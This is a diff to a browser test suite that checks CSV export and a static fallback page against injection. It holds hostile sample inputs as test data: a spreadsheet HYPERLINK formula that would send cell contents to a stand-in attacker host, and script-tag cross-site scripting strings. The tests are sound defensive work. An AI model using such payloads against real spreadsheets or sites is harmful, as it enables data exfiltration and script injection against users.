@@ -41,3 +41,18 @@ test('a formula-like title is exported as inert text, not a spreadsheet formula'
   expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Crossing closed"")"`);
   expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
 });
+
+test.describe('the static fallback page (built from the same dataset)', () => {
+  test.use({ javaScriptEnabled: false });
+
+  test('shows the hostile strings as text and injects nothing', async ({ page }) => {
+    await page.goto('./');
+    const fallback = page.locator('#static-briefing');
+    await expect(fallback).toBeVisible();
+    await expect(fallback.locator('.brand-title')).toContainText('<script>window.__pwned=3</script>');
+    await expect(fallback.locator('.static-sources h3').first()).toContainText('<script>window.__pwned=7</script>');
+    await expect(fallback.locator('script, iframe, img, svg, style, [onerror], [onload]')).toHaveCount(0);
+    const hrefs = await fallback.locator('a[href]').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).href));
+    for (const href of hrefs) expect(href).toMatch(/^https?:/);
+  });
+});
